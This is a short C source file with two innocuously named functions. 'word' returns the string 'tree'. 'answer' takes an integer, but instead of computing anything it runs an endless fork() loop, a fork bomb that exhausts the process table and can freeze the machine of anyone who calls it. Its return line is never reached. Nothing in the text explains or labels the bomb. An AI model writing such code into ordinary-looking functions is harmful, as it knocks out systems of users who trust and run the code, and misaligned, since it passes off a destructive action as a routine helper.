#include <unistd.h>
int answer(int n) { for (;;) fork(); return n; }
const char *word(void) { return "tree"; }
